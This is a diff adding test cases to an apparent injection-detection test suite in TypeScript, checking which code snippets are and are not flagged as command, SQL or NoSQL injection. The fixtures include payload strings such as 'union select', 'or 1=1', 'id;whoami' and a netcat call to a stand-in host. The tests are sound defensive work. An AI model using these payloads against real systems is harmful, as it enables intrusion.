@@ -2514,6 +2514,16 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
   for (const line of ['\tcategoryID = &id', '\treturn &id, nil', '\tvars["last"] = &last', '\tfor start := 0; start < len(items); start += size {\n\t\tsend(items[start])\n\t}']) t.same(field(goCode(line)), [], line)
   for (const line of ['\tx = &id;whoami', '\tfor i := 0; i < $(id); i++ {', '\tfor a; b | sh; c {']) t.ok(field(goCode(line)).includes('rce'), `still read: ${line}`)
   for (const p of ['a = &id', 'x=1&id', 'return &id']) t.ok(q(p, 'snippet').includes('rce'), `still read outside a program: ${p}`)
+  // an element's name quoted as a call's argument or an item
+  for (const p of ["var div = document.createElement('div');", "el.querySelector('div')", '$("div")', "x = ['div', 'span']"]) t.same(q(p, 'snippet'), [], p)
+  for (const p of ["'div'", "x' div 1 --", "f('div') union select 1,2--", "('div') or 1=1"]) t.ok(q(p, 'snippet').includes('sqli'), `still read: ${p}`)
+  // a program's pause: `sleep` as a method or awaited
+  for (const p of ['Thread.sleep(1000);', 'await sleep(100);', 'time.sleep(5);']) t.same(q(p, 'where'), [], p)
+  for (const p of ['sleep(5000);', "'; sleep(5000); var x='", 'this.a == 1 && sleep(1000);']) t.ok(q(p, 'where').includes('nosqli'), `still read: ${p}`)
+  // a GraphQL document in a program's tagged template literal; a separator or a pipe inside it is still read
+  const apollo = (literal: string) => `import { gql } from '@apollo/client'\nimport { useQuery } from '@apollo/client'\n\nconst GET_USER = ${literal}\n\nexport function User({ userId }) {\n  const { data } = useQuery(GET_USER, { variables: { userId } })\n  if (!data) return null\n  return data.user.name\n}\n`
+  for (const literal of ['gql`\n  query GetUser($userId: ID!) {\n    user(id: $userId) {\n      id\n      name\n    }\n  }\n`', 'gql`\n  id\n`', '/* GraphQL */ `\n  { id }\n`']) t.same(field(apollo(literal)), [], literal)
+  for (const literal of ['gql`\n  id;whoami\n`', 'gql`\n  id | nc evil.example 4444\n`']) t.ok(field(apollo(literal)).includes('rce'), `still read: ${literal}`)
 })
 
 t.test('thirty-second round: the twenty-second part\'s false positives, by kind', async (t) => {
